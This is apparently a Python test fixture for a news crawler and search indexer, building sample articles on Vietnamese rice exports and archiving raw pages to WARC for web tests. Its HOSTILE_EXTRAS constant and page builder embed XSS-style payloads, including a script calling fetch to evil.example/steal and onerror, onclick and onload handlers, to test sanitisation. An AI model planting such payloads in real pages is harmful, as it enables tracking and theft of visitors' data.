"""A small set of real-looking articles for the web tests: indexed into the real node, archived to WARC."""

from __future__ import annotations

from datetime import UTC, datetime
from pathlib import Path

from elasticsearch import Elasticsearch

from crawler.archive import WarcArchive
from indexer.lifecycle import articles_alias, setup
from indexer.mapping import article_document
from vnmon.kernel.article import Article

# What the archived raw pages carry besides the article: everything the safe view must neutralise.
HOSTILE_EXTRAS = """
<script>document.title = 'pwned'; fetch('http://evil.example/steal')</script>
<img src="http://evil.example/pixel.gif" onerror="alert(1)" alt="tracking pixel">
<link rel="stylesheet" href="http://evil.example/style.css">
<style>body { background: url(http://evil.example/bg.png) } @import url("http://evil.example/x.css");</style>
<a href="http://evil.example/elsewhere" onclick="alert(2)">read more</a>
<iframe src="http://evil.example/frame"></iframe>
<div style="background-image: u\\72l(http://evil.example/escaped.png)">styled</div>
"""

WIRE_BODY = (
    "Vietnam and its partners signed a new agreement on rice exports in Hanoi on Monday, officials said. "
    "The deal covers shipments over the next three years and sets quality rules for growers in the "
    "Mekong Delta, where most of the country's rice is grown. Traders expect prices to stay stable. "
)


def _article(
    ident: str,
    source: str,
    source_name: str,
    country: str,
    language: str,
    title: str,
    body: str,
    published: str,
    cluster: str,
) -> Article:
    return Article(
        id=ident,
        url=f"https://{source}.example/news/{ident}.html",
        canonical_url=f"https://{source}.example/news/{ident}.html",
        source=source,
        source_name=source_name,
        country=country,
        title=title,
        body=body,
        language=language,
        published_at=datetime.fromisoformat(published),
        fetched_at=datetime(2026, 11, 20, tzinfo=UTC),
        relevance=8.0,
        matched_terms=["vietnam"],
        cluster_id=cluster,
    )


ARTICLES: list[Article] = [
    _article("wire-a", "globe", "The Globe", "US", "en", "Vietnam signs rice export deal", WIRE_BODY * 2,
             "2026-11-02T08:00:00+00:00", "cluster-wire"),
    _article("wire-b", "herald", "The Herald", "GB", "en", "Vietnam signs rice export deal", WIRE_BODY * 2,
             "2026-11-02T09:00:00+00:00", "cluster-wire"),
    _article("wire-c", "courier", "Daily Courier", "AU", "en", "Vietnam signs rice export deal", WIRE_BODY,
             "2026-11-02T10:00:00+00:00", "cluster-wire"),
    _article("ru-1", "mir", "Мир Новостей", "RU", "ru", "Рис из Вьетнама дорожает",
             "Цены на рис из Вьетнама выросли. Экспортёры во Вьетнаме ожидают рост поставок в Россию. " * 4,
             "2026-11-05T07:00:00+00:00", "cluster-ru"),
    _article("de-1", "zeitung", "Die Zeitung", "DE", "de", "Reisexporte aus Vietnam",
             "Vietnam hat ein neues Abkommen über Reisexporte unterzeichnet, berichtet Hanoi. " * 4,
             "2026-11-10T07:00:00+00:00", "cluster-de"),
    _article("fr-1", "monde", "Le Quotidien", "FR", "fr", "Le Vietnam et le riz",
             "Le Vietnam a signé un accord sur les exportations de riz à Hanoï, selon les autorités. " * 4,
             "2026-11-12T07:00:00+00:00", "cluster-fr"),
]  # fmt: skip


def raw_page(article: Article) -> bytes:
    """The page as the outlet served it: article markup plus hostile extras."""
    paragraphs = "".join(f"<p>{p}</p>" for p in article.body.split(". ") if p)
    html = (
        f'<!DOCTYPE html><html lang="{article.language}"><head><meta charset="utf-8">'
        f"<title>{article.title}</title></head><body onload=\"alert('load')\">"
        f'<h1 class="headline">{article.title}</h1><div class="story">{paragraphs}</div>{HOSTILE_EXTRAS}'
        "</body></html>"
    )
    return html.encode("utf-8")


def index_corpus(client: Elasticsearch, prefix: str, data_dir: Path) -> list[Article]:
    """Archive every article's raw page, index the articles (with their WARC refs), refresh."""
    setup(client, prefix)
    stored: list[Article] = []
    with WarcArchive(data_dir / "warc") as archive:
        for article in ARTICLES:
            ref = archive.write_response(
                article.url,
                200,
                "OK",
                [("Content-Type", "text/html; charset=utf-8")],
                raw_page(article),
                article.fetched_at,
            )
            stored.append(article.model_copy(update={"warc": ref}))
    alias = articles_alias(prefix)
    for article in stored:
        client.index(index=alias, id=article.id, document=article_document(article))
    client.indices.refresh(index=alias)
    return stored
